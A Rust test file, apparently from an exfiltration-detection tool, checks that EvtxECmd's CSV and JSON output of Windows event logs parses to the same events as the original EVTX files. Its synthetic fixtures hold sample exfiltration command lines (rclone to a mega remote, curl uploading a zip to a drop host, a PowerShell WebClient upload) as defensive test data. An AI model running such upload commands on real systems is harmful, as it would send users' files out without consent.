//! EvtxECmd's output (CSV, JSON Lines, full JSON) reads as the same events as
//! the EVTX it was made from.
//!
//! EvtxECmd (a .NET tool) is not run here: its output is rebuilt from the
//! `evtx` crate's XML of each record, as EvtxECmd makes it (its columns from
//! `System`, `Level` and `Keywords` by name, `Payload` as Newtonsoft's JSON
//! rendering of the `EventData`/`UserData` element: `@` attributes, `#text`,
//! repeated elements as arrays, an element with text only as a string, an
//! empty one as null).

mod support;

use model::Event;
use serde_json::{Map, Value as Json, json};
use sources::{Format, JsonShape, SourceContext, open_bytes};
use std::path::PathBuf;
use support::corpus::{meaning, shared_evtx_files, xml_records};
use support::evtx_writer::{data, event, evtx_file};
use support::xml_tree::{Element, attribute, child, parse};

/// Newtonsoft's `SerializeXmlNode` rendering of an element's content.
fn newtonsoft(element: &Element) -> Json {
    // Text between child elements is layout; a leaf's text is its value.
    let has_text = element.children.is_empty() && !element.text.is_empty();
    if element.attributes.is_empty() && element.children.is_empty() {
        return if element.text.is_empty() {
            Json::Null
        } else {
            Json::String(element.text.clone())
        };
    }
    let mut object = Map::new();
    for (name, value) in &element.attributes {
        object.insert(format!("@{name}"), Json::String(value.clone()));
    }
    if has_text {
        object.insert("#text".into(), Json::String(element.text.clone()));
    }
    for child in &element.children {
        let value = newtonsoft(child);
        match object.get_mut(&child.name) {
            Some(Json::Array(items))
                if element
                    .children
                    .iter()
                    .filter(|c| c.name == child.name)
                    .count()
                    > 1 =>
            {
                items.push(value)
            }
            _ if element
                .children
                .iter()
                .filter(|c| c.name == child.name)
                .count()
                > 1 =>
            {
                object.insert(child.name.clone(), Json::Array(vec![value]));
            }
            _ => {
                object.insert(child.name.clone(), value);
            }
        }
    }
    Json::Object(object)
}

/// One record as EvtxECmd's JSON Lines output writes it.
fn evtxecmd_record(xml: &str, number: usize) -> Map<String, Json> {
    let event = parse(xml);
    let system = child(&event, "System").unwrap();
    let text = |name: &str| child(system, name).map(|c| c.text.clone());
    let level = match text("Level").as_deref() {
        Some("0") => "LogAlways".to_owned(),
        Some("4") => "Info".to_owned(),
        Some("2") => "Error".to_owned(),
        Some("3") => "Warning".to_owned(),
        Some(other) => other.to_owned(),
        None => String::new(),
    };
    let keywords = match text("Keywords").as_deref() {
        Some("0x8020000000000000") => "Audit success".to_owned(),
        Some("0x8010000000000000") => "Audit failure".to_owned(),
        Some(other) => other.to_owned(),
        None => String::new(),
    };
    let time = attribute(child(system, "TimeCreated"), "SystemTime").unwrap();
    let payload = ["EventData", "UserData"]
        .iter()
        .find_map(|name| child(&event, name))
        .map(|element| {
            let mut rendered = Map::new();
            let mut value = newtonsoft(element);
            if let Json::Object(object) = &mut value {
                // ReadOuterXml keeps the event's namespace on the element.
                object.insert(
                    "@xmlns".into(),
                    "http://schemas.microsoft.com/win/2004/08/events/event".into(),
                );
            }
            rendered.insert(element.name.clone(), value);
            Json::Object(rendered).to_string()
        });
    let mut record = json!({
        "PayloadData1": "Target: summary written by a map",
        "MapDescription": "",
        "ChunkNumber": 0,
        "Computer": text("Computer"),
        "Payload": payload,
        "UserId": attribute(child(system, "Security"), "UserID"),
        "Channel": text("Channel"),
        "Provider": attribute(child(system, "Provider"), "Name"),
        "EventId": child(system, "EventID").map(|e| e.text.parse::<i64>().unwrap()),
        "EventRecordId": text("EventRecordID"),
        "ProcessId": attribute(child(system, "Execution"), "ProcessID").map(|p| p.parse::<i64>().unwrap()),
        "ThreadId": attribute(child(system, "Execution"), "ThreadID").map(|p| p.parse::<i64>().unwrap()),
        "Level": level,
        "Keywords": keywords,
        "SourceFile": "C:\\Triage\\C\\Windows\\System32\\winevt\\Logs\\Security.evtx",
        "ExtraDataOffset": 0,
        "HiddenRecord": false,
        "TimeCreated": time.replace('Z', "+00:00"),
        "RecordNumber": number,
    });
    let Json::Object(object) = record.take() else {
        unreachable!()
    };
    // ServiceStack leaves out null properties.
    object.into_iter().filter(|(_, v)| !v.is_null()).collect()
}

/// The same records as EvtxECmd's CSV (its column order, `TimeCreated` as
/// `yyyy-MM-dd HH:mm:ss.fffffff`).
fn evtxecmd_csv(records: &[Map<String, Json>]) -> Vec<u8> {
    const COLUMNS: [&str; 25] = [
        "RecordNumber",
        "EventRecordId",
        "TimeCreated",
        "EventId",
        "Level",
        "Provider",
        "Channel",
        "ProcessId",
        "ThreadId",
        "Computer",
        "UserId",
        "MapDescription",
        "UserName",
        "RemoteHost",
        "PayloadData1",
        "PayloadData2",
        "PayloadData3",
        "PayloadData4",
        "PayloadData5",
        "PayloadData6",
        "ExecutableInfo",
        "HiddenRecord",
        "SourceFile",
        "Keywords",
        "Payload",
    ];
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(COLUMNS).unwrap();
    for record in records {
        let row: Vec<String> = COLUMNS
            .iter()
            .map(|column| match record.get(*column) {
                None | Some(Json::Null) => String::new(),
                Some(Json::String(s)) if *column == "TimeCreated" => {
                    s.replace('T', " ").replace("+00:00", "")
                }
                Some(Json::String(s)) => s.clone(),
                Some(other) => other.to_string(),
            })
            .collect();
        writer.write_record(&row).unwrap();
    }
    writer.into_inner().unwrap()
}

/// EvtxECmd's full JSON (`--fj`): the whole event in Newtonsoft's rendering.
fn evtxecmd_full(xml: &str) -> String {
    let event = parse(xml);
    let mut value = newtonsoft(&event);
    if let Json::Object(object) = &mut value {
        object.insert(
            "@xmlns".into(),
            "http://schemas.microsoft.com/win/2004/08/events/event".into(),
        );
    }
    json!({ "Event": value }).to_string()
}

fn read(bytes: Vec<u8>, expected: Format, label: &str) -> Vec<Event> {
    let head = String::from_utf8_lossy(&bytes[..bytes.len().min(300)]).into_owned();
    let (format, source) = open_bytes("out", bytes, &SourceContext::default()).unwrap();
    assert_eq!(format, expected, "{label}: {head}");
    source.map(|r| r.expect("every record reads")).collect()
}

/// System fields EvtxECmd's columns do not carry (and `SystemTime`, which
/// they write in another shape; the event's time itself is compared).
const NOT_IN_COLUMNS: [&str; 9] = [
    "Provider_Guid",
    "Provider_EventSourceName",
    "Version",
    "Task",
    "Opcode",
    "Correlation_ActivityID",
    "Correlation_RelatedActivityID",
    "EventID_Qualifiers",
    "SystemTime",
];

/// The three renderings of `evtx` all read as its events.
fn check(evtx: &[u8], label: &str) -> usize {
    let (_, source) = open_bytes("a.evtx", evtx.to_vec(), &SourceContext::default()).unwrap();
    let want: Vec<Event> = source.filter_map(Result::ok).collect();
    let xml = xml_records(evtx);
    let records: Vec<Map<String, Json>> = xml
        .iter()
        .enumerate()
        .map(|(i, x)| evtxecmd_record(x, i + 1))
        .collect();
    let lines: String = records
        .iter()
        .map(|r| format!("{}\n", Json::Object(r.clone())))
        .collect();
    // For timing the readers and comparing hunts:
    // EXFILGUARD_WRITE_EVTXECMD=DIR writes the renderings there.
    if let Some(dir) = std::env::var_os("EXFILGUARD_WRITE_EVTXECMD") {
        let dir = PathBuf::from(dir);
        std::fs::create_dir_all(dir.join("csv")).unwrap();
        std::fs::create_dir_all(dir.join("json")).unwrap();
        let name = format!(
            "{:016x}",
            label
                .bytes()
                .fold(0u64, |h, b| h.wrapping_mul(31) ^ u64::from(b))
        );
        std::fs::write(
            dir.join("csv").join(format!("{name}.csv")),
            evtxecmd_csv(&records),
        )
        .unwrap();
        std::fs::write(dir.join("json").join(format!("{name}.json")), &lines).unwrap();
    }
    let renderings = [
        (
            "json",
            read(lines.into_bytes(), Format::Json(JsonShape::EvtxECmd), label),
        ),
        (
            "csv",
            read(evtxecmd_csv(&records), Format::EvtxECmdCsv, label),
        ),
        (
            "full json",
            read(
                xml.iter()
                    .map(|x| evtxecmd_full(x) + "\n")
                    .collect::<String>()
                    .into_bytes(),
                Format::Json(JsonShape::EvtxJson),
                label,
            ),
        ),
    ];
    for (name, got) in renderings {
        assert_eq!(got.len(), want.len(), "{label} {name}");
        // The full JSON holds all of `System`; the columns do not.
        let skip: &[&str] = if name == "full json" {
            &[]
        } else {
            &NOT_IN_COLUMNS
        };
        for (got, want) in got.iter().zip(&want) {
            assert_eq!(meaning(got, skip), meaning(want, skip), "{label} {name}");
        }
    }
    want.len()
}

#[test]
fn evtxecmd_renderings_read_as_their_evtx() {
    let time = |s: u32| format!("2026-11-20T02:{:02}:{:02}.1234567Z", s / 60, s % 60);
    let records = vec![
        event(
            "Microsoft-Windows-Sysmon",
            "Microsoft-Windows-Sysmon/Operational",
            1,
            1,
            &time(1),
            "ws7",
            vec![
                data("Image", r"C:\Tools\rclone.exe"),
                data(
                    "CommandLine",
                    r#"rclone.exe copy "C:\Finance & Legal" mega:<drop>"#,
                ),
            ],
        ),
        event(
            "Microsoft-Windows-Security-Auditing",
            "Security",
            4688,
            2,
            &time(2),
            "ws7",
            vec![
                data("NewProcessName", r"C:\Windows\System32\curl.exe"),
                data("CommandLine", "curl -T q3.zip https://drop.example/up"),
                data("TokenElevationType", ""),
            ],
        ),
        event(
            "Microsoft-Windows-PowerShell",
            "Microsoft-Windows-PowerShell/Operational",
            4104,
            3,
            &time(3),
            "ws7",
            vec![data(
                "ScriptBlockText",
                "$wc = New-Object Net.WebClient\r\n$wc.UploadFile('https://x.example/', 'C:\\q.zip')",
            )],
        ),
    ];
    assert_eq!(check(&evtx_file(&records, 2), "written"), 3);
}

/// Every event of the shared EVTX corpus reads the same from the three.
#[test]
fn the_shared_evtx_corpus_reads_the_same_from_evtxecmd_output() {
    let (mut files, mut events) = (0, 0);
    let corpus = shared_evtx_files();
    if corpus.is_empty() {
        return;
    }
    for (path, bytes) in corpus {
        if !matches!(
            open_bytes("a.evtx", bytes.clone(), &SourceContext::default()),
            Ok((Format::Evtx, _))
        ) {
            continue;
        }
        events += check(&bytes, &path.display().to_string());
        files += 1;
    }
    assert!(
        files > 100 && events > 20_000,
        "{files} files, {events} events"
    );
}
